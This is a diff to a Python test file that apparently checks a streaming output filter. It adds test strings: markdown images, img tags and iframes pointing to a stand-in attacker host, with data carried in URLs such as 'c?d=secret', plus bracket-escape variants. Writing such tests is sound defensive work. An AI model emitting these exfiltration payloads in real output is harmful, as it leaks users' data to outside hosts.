@@ -44,6 +44,7 @@ def _stream(
         f"![s](https://{EVIL}/c?d={'x' * 90})",  # query
         f"![s](https://{EVIL}/{'y' * 150}.png)",  # data in the path, no query
         f"![s](<https://{EVIL}/{'y' * 70}.png> 'title')",
+        f"![a [b] \\] c](https://{EVIL}/{'y' * 90}.png)",
         f'<img alt="a > b" src="https://{EVIL}/{"z" * 90}.png">',
         f"<iframe\n  src='//{EVIL}/{'w' * 90}'></iframe>",
     ],
@@ -94,6 +95,7 @@ def test_ordinary_brackets_and_angle_brackets_are_not_held_long() -> None:
         f"Here ![s](//{EVIL}/secret.png)",
         f"Here ![s](https:{EVIL}/secret.png)",
         f"Here ![s](https://{EVIL}/c?d=1 'single-quoted title')",
+        f"Here ![a \\] [b] c](https://{EVIL}/secret.png)",
         f"Details: <https://{EVIL}/c?d=secret>",
         f"Details: https://{EVIL}/c?d=secret",
         f"Details: www.{EVIL}/c?d=secret",
